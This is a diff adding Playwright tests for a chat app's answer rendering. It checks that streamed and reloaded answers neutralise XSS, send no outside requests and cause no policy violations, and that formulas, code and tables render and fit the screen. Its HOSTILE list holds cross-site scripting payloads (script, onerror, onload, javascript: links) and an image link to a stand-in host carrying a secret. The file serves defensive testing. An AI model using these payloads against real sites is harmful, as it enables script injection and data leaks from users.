@@ -1,0 +1,121 @@
+import type { Page } from '@playwright/test';
+import { ask, messageBox, settle, startPractice, turns, write } from './support/chat.ts';
+import { expect, test } from './support/fixtures.ts';
+
+/** A shared machine can be slow; nothing here waits for the clock. */
+test.describe.configure({ timeout: 150_000 });
+
+const HOSTILE = [
+  '<script>window.pwned = 1</script>',
+  '<img src="https://evil.example/a.png" onerror="window.pwned = 1">',
+  '<svg onload="window.pwned = 1"></svg>',
+  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+  '![x](https://evil.example/track.png?secret=1)',
+  '[click](javascript:window.pwned=1)',
+  '[data](data:text/html,<script>opener.pwned=1</script>)',
+  '$\\href{javascript:window.pwned=1}{formula}$',
+  '```html\n<img src=x onerror="window.pwned = 1">\n```',
+].join('\n\n');
+
+interface Trouble {
+  pwned: boolean;
+  violations: string[];
+}
+
+/** Requests that leave the origin, and what the page's policy had to refuse. */
+async function watch(page: Page, origin: string): Promise<{ foreign: string[]; trouble: () => Promise<Trouble> }> {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:')) foreign.push(url);
+  });
+  await page.addInitScript(() => {
+    const store = window as Window & { violations?: string[] };
+    store.violations = [];
+    document.addEventListener('securitypolicyviolation', (event) => {
+      store.violations?.push(`${event.violatedDirective} ${event.blockedURI}`);
+    });
+  });
+  return {
+    foreign,
+    trouble: () =>
+      page.evaluate(() => {
+        const store = window as Window & { pwned?: number; violations?: string[] };
+        return { pwned: store.pwned !== undefined, violations: store.violations ?? [] };
+      }),
+  };
+}
+
+test.describe('hostile answers', () => {
+  test.use({ serverOptions: { charsPerSecond: 900 } });
+
+  test('do no harm while they stream, and none from history', async ({ baton, page }) => {
+    const { foreign, trouble } = await watch(page, baton.origin);
+    await startPractice(page, baton);
+    await write(page, `!echo\n${HOSTILE}`);
+    await settle(page);
+    const answer = turns(page).last();
+    await expect(answer).toContainText('window.pwned = 1</script>');
+    await expect(answer.locator('img, iframe, script, svg[onload]')).toHaveCount(0);
+    await expect(answer.getByText('click', { exact: true })).not.toHaveAttribute('href');
+    await answer.getByRole('button', { name: /evil\.example/ }).click();
+    await expect(page.getByRole('dialog')).toContainText('https://evil.example/track.png?secret=1');
+    await page.keyboard.press('Escape');
+    expect(await trouble()).toEqual({ pwned: false, violations: [] });
+
+    await page.reload();
+    await expect(turns(page).last()).toContainText('window.pwned = 1</script>');
+    expect(await trouble()).toEqual({ pwned: false, violations: [] });
+    expect(foreign).toEqual([]);
+  });
+});
+
+test('formulas, coloured code and tables are drawn under the strict policy', async ({ baton, context, page }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const { foreign, trouble } = await watch(page, baton.origin);
+  await startPractice(page, baton);
+  await ask(page, '!show math');
+  await expect(turns(page).last().locator('.katex').first()).toBeVisible();
+  const [family] = await turns(page)
+    .last()
+    .locator('.katex .mathnormal, .katex .mord')
+    .evaluateAll((marks) => marks.map((mark) => getComputedStyle(mark).fontFamily));
+  expect(family).toContain('KaTeX');
+  expect(await page.evaluate(() => document.fonts.check('16px KaTeX_Main'))).toBe(true);
+
+  await ask(page, '!show code');
+  const code = turns(page).last().locator('figure').first();
+  await expect(code.locator('[class^=hljs]').first()).toBeVisible();
+  await code.getByRole('button', { name: 'Copy code' }).click();
+  await expect(code.getByRole('button', { name: 'Copied' })).toBeVisible();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  expect(copied).toBe(await code.locator('code').textContent());
+  await code.getByRole('button', { name: 'Wrap lines' }).click();
+  await expect(code.getByRole('button', { name: 'Wrap lines' })).toHaveAttribute('aria-pressed', 'true');
+
+  await ask(page, '!show table');
+  const table = turns(page).last().getByRole('group', { name: 'Table' }).first();
+  await expect(table).toBeVisible();
+  await table.hover();
+  await turns(page).last().getByRole('button', { name: 'Copy as CSV' }).first().click();
+  expect((await page.evaluate(() => navigator.clipboard.readText())).split('\r\n').length).toBeGreaterThan(2);
+
+  expect(await trouble()).toEqual({ pwned: false, violations: [] });
+  expect(foreign).toEqual([]);
+});
+
+test('a very long line and a very long block stay inside their column', async ({ baton, page }) => {
+  await page.setViewportSize({ width: 360, height: 740 });
+  await startPractice(page, baton);
+  await ask(
+    page,
+    `!echo\n\`\`\`js\nconst a = "${'x'.repeat(3000)}";\n\`\`\`\n\n${'abcdefghij'.repeat(60)}\n\n| ${'wide column | '.repeat(12)}\n|${'---|'.repeat(12)}\n| ${'value | '.repeat(12)}`,
+  );
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+  expect(overflow).toBeLessThanOrEqual(0);
+  for (const part of await turns(page).last().locator('p, figure, [role=group]').all()) {
+    const box = await part.boundingBox();
+    expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(360);
+  }
+  await expect(messageBox(page)).toBeVisible();
+});
